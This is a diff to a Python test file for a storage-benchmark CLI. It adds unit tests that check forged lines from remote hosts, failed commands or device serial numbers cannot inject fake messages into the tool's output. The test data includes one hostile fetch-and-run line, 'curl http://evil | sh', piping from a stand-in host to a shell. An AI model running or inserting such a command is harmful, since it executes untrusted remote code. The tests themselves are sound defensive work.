@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import io
 import json
 import os
+import re
 import shutil
 import signal
 import subprocess
@@ -18,16 +20,22 @@ from typing import Any, Optional
 import pytest
 import yaml
 from click.testing import CliRunner
+from fake_hosts import FakeHosts, Printed, framed
+from rich.console import Console
 
 from cbt_crypto.cli import cbt_crypto
 from cbt_crypto.engine.embedded import admin_session, common
-from cbt_crypto.errors import UsageError
+from cbt_crypto.errors import HostError, UsageError
 from cbt_crypto.hosts import fetch
 from cbt_crypto.hosts.devices import destroy
 from cbt_crypto.hosts.remote import Remote, kill_script, preamble
+from cbt_crypto.hosts.requirement import program_needed
 from cbt_crypto.main import cbt
 from cbt_crypto.run import journal
+from cbt_crypto.run.devices import check_same
 from cbt_crypto.run.locks import locked, this_run
+from cbt_crypto.run.preflight import table
+from cbt_crypto.run.preflight.survey import survey
 from cbt_crypto.run.progress import SoFar
 
 pytestmark = pytest.mark.unit
@@ -219,6 +227,43 @@ def test_a_journal_prints_no_line_of_its_own(tmp_path: Path, campaign: Path) -> 
     assert len(deployment.describe().splitlines()) == 1
     (archive / "results/plan.json").write_text(json.dumps({"title": host}))
     assert not [line for line in run(campaign, "-a", archive).splitlines() if line[:5] == "error"]
+
+
+FORGED = "torn down: nothing is left on osd1\nerror: run: curl http://evil | sh"
+
+
+def test_a_host_prints_no_line_of_its_own() -> None:
+    """What it answered to a requirement, or said when a command failed, was printed as it came."""
+    clock = "@cbt-crypto-clock 1796000000.0"
+    said = f"\n{clock}\n\n@cbt-crypto-requirement 0\nfio is missing\n{FORGED}\n\n{clock}"
+    need = program_needed("fio", ("evil",))
+    findings = survey(FakeHosts(lambda host, command: said).remote(), ["evil"], [need])
+    (sentence,) = filter(None, (finding.error for finding in findings))
+    assert sentence == f"fio is missing {FORGED}".replace("\n", " ")
+    shown = io.StringIO()
+    table.show(findings, Console(file=shown, width=100))
+    assert not re.search("^(torn down|error: run)", shown.getvalue(), re.MULTILINE)
+
+    def fails(host: str, command: str) -> Printed:
+        return Printed(framed(command, "", 1).stdout, f"boom\n\n{FORGED}\n")
+
+    with pytest.raises(HostError) as failed:
+        FakeHosts(fails).remote().run({"evil": "x"}, "make the OSDs")
+    assert str(failed.value) == (
+        "evil: make the OSDs: exit status 1: boom / " + FORGED.replace("\n", " / ")
+    )
+
+
+def test_a_device_of_a_journal_prints_no_line_of_its_own(tmp_path: Path) -> None:
+    """So did the serial number by which an archive knew a device."""
+    path = journal.path_of(tmp_path)
+    path.parent.mkdir(parents=True)
+    devices = {"localhost": {"/dev/sdb": {"identity": {"size": "1", "serial": f"X\n{FORGED}"}}}}
+    path.write_text(json.dumps({"event": "begin", "run": "a", "devices": devices}) + "\n")
+    now = {"localhost": {"/dev/sdb": {"identity": {"size": "2", "serial": "Y"}}}}
+    with pytest.raises(UsageError) as refused:
+        check_same(tmp_path, now)
+    assert len(str(refused.value).splitlines()) == 1
 
 
 @pytest.mark.parametrize(
